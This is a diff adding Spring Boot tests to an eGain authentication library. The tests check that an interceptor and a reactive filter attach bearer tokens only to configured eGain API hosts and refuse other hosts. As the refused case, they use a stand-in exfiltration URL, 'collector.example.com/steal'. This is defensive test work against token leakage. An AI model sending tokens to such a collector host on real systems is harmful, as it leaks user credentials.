@@ -18,7 +18,9 @@ package io.github.egainauth.autoconfigure;
 
 import java.io.IOException;
 import java.io.InputStream;
+import java.net.URI;
 import java.net.URL;
+import java.time.Duration;
 import java.util.ArrayList;
 import java.util.Collections;
 import java.util.List;
@@ -58,6 +60,7 @@ import org.springframework.boot.test.context.runner.ReactiveWebApplicationContex
 import org.springframework.boot.test.context.runner.WebApplicationContextRunner;
 import org.springframework.context.ApplicationContext;
 import org.springframework.http.HttpHeaders;
+import org.springframework.http.HttpMethod;
 import org.springframework.http.HttpStatus;
 import org.springframework.security.oauth2.client.ClientCredentialsOAuth2AuthorizedClientProvider;
 import org.springframework.security.oauth2.client.ClientCredentialsReactiveOAuth2AuthorizedClientProvider;
@@ -665,6 +668,92 @@ class EgainAuthAutoConfigurationTests {
 	}
 
 	@Test
+	void clientHttpRequestInterceptorWhenApiBaseUrlHostOrAllowedHostThenAttachesTokenElseRefuses() {
+		this.contextRunner.withPropertyValues(TestEgainProperties.oneClient())
+			.withPropertyValues("egain.auth.allowed-hosts=API.EU.egain.cloud, api.staging.egain.cloud")
+			.withBean(EgainAccessTokens.class, TestEgainProperties::fixedAccessTokens)
+			.run((context) -> {
+				RestClient.Builder builder = RestClient.builder()
+					.requestInterceptor(context.getBean(EgainClientHttpRequestInterceptor.class));
+				MockRestServiceServer server = MockRestServiceServer.bindTo(builder).build();
+				server.expect(requestTo("https://api.ai.egain.cloud/knowledge/portalmgr/v4/portals"))
+					.andExpect(header(HttpHeaders.AUTHORIZATION, "Bearer token-for-agent-assist"))
+					.andRespond(withSuccess());
+				server.expect(requestTo("https://api.eu.egain.cloud/knowledge/portalmgr/v4/portals"))
+					.andExpect(header(HttpHeaders.AUTHORIZATION, "Bearer token-for-agent-assist"))
+					.andRespond(withSuccess());
+				RestClient restClient = builder.build();
+				restClient.get()
+					.uri("https://api.ai.egain.cloud/knowledge/portalmgr/v4/portals")
+					.retrieve()
+					.toBodilessEntity();
+				restClient.get()
+					.uri("https://api.eu.egain.cloud/knowledge/portalmgr/v4/portals")
+					.retrieve()
+					.toBodilessEntity();
+				assertThatIllegalArgumentException().isThrownBy(
+						() -> restClient.get().uri("https://collector.example.com/steal").retrieve().toBodilessEntity())
+					.withMessage("Refusing to send the token of eGain client 'agent-assist' to host "
+							+ "'collector.example.com': only [api.ai.egain.cloud, api.eu.egain.cloud, "
+							+ "api.staging.egain.cloud] may receive eGain tokens. If this host serves eGain's API, "
+							+ "add it to egain.auth.allowed-hosts");
+				server.verify();
+			});
+	}
+
+	@Test
+	void clientHttpRequestInterceptorWhenCustomApiBaseUrlThenOnlyItsHostAllowed() {
+		this.contextRunner.withPropertyValues(TestEgainProperties.oneClient())
+			.withPropertyValues("egain.auth.api-base-url=https://api.example.egain.cloud")
+			.withBean(EgainAccessTokens.class, TestEgainProperties::fixedAccessTokens)
+			.run((context) -> {
+				RestClient.Builder builder = RestClient.builder()
+					.requestInterceptor(context.getBean(EgainClientHttpRequestInterceptor.class));
+				MockRestServiceServer server = MockRestServiceServer.bindTo(builder).build();
+				server.expect(requestTo("https://api.example.egain.cloud/x")).andRespond(withSuccess());
+				RestClient restClient = builder.build();
+				restClient.get().uri("https://api.example.egain.cloud/x").retrieve().toBodilessEntity();
+				assertThatIllegalArgumentException()
+					.isThrownBy(
+							() -> restClient.get().uri("https://api.ai.egain.cloud/x").retrieve().toBodilessEntity())
+					.withMessageContaining("to host 'api.ai.egain.cloud': only [api.example.egain.cloud]");
+				server.verify();
+			});
+	}
+
+	@Test
+	void exchangeFilterFunctionWhenApiBaseUrlHostOrAllowedHostThenAttachesTokenElseRefuses() {
+		this.contextRunner.withPropertyValues(TestEgainProperties.oneClient())
+			.withPropertyValues("egain.auth.allowed-hosts=API.EU.egain.cloud")
+			.withBean(ReactiveEgainAccessTokens.class, TestEgainProperties::fixedReactiveAccessTokens)
+			.run((context) -> {
+				EgainExchangeFilterFunction filter = context.getBean(EgainExchangeFilterFunction.class);
+				assertThat(filteredAuthorization(filter, "https://api.ai.egain.cloud/x"))
+					.isEqualTo("Bearer token-for-agent-assist");
+				assertThat(filteredAuthorization(filter, "https://api.eu.egain.cloud/x"))
+					.isEqualTo("Bearer token-for-agent-assist");
+				assertThatIllegalArgumentException()
+					.isThrownBy(() -> filteredAuthorization(filter, "https://collector.example.com/steal"))
+					.withMessageStartingWith("Refusing to send the token of eGain client 'agent-assist' to host "
+							+ "'collector.example.com': only [api.ai.egain.cloud, api.eu.egain.cloud]");
+			});
+	}
+
+	@Test
+	void exchangeFilterFunctionWhenReactiveAppThenRefusesOtherHosts() {
+		this.reactiveContextRunner.withPropertyValues(TestEgainProperties.oneClient())
+			.withBean(ReactiveEgainAccessTokens.class, TestEgainProperties::fixedReactiveAccessTokens)
+			.run((context) -> {
+				EgainExchangeFilterFunction filter = context.getBean(EgainExchangeFilterFunction.class);
+				assertThat(filteredAuthorization(filter, "https://api.ai.egain.cloud/x"))
+					.isEqualTo("Bearer token-for-agent-assist");
+				assertThatIllegalArgumentException()
+					.isThrownBy(() -> filteredAuthorization(filter, "https://api.eu.egain.cloud/x"))
+					.withMessageContaining("to host 'api.eu.egain.cloud': only [api.ai.egain.cloud]");
+			});
+	}
+
+	@Test
 	void autoConfigurationWhenSpringSecurityClientsAlsoConfiguredThenBothCoexist() {
 		new WebApplicationContextRunner()
 			.withConfiguration(
@@ -783,6 +872,16 @@ class EgainAuthAutoConfigurationTests {
 		return Objects.requireNonNull(
 				context.getBean(EgainClientRegistrationRepository.class).findByRegistrationId(name),
 				() -> "No registration " + name);
+	}
+
+	private static String filteredAuthorization(EgainExchangeFilterFunction filter, String url) {
+		AtomicReference<ClientRequest> sent = new AtomicReference<>();
+		filter.filter(ClientRequest.create(HttpMethod.GET, URI.create(url)).build(), (request) -> {
+			sent.set(request);
+			return Mono.just(ClientResponse.create(HttpStatus.OK).build());
+		}).block(Duration.ofSeconds(10));
+		assertThat(sent.get()).isNotNull();
+		return sent.get().headers().getFirst(HttpHeaders.AUTHORIZATION);
 	}
 
 	private static HttpHeaders webClientCallHeaders(ApplicationContext context) {
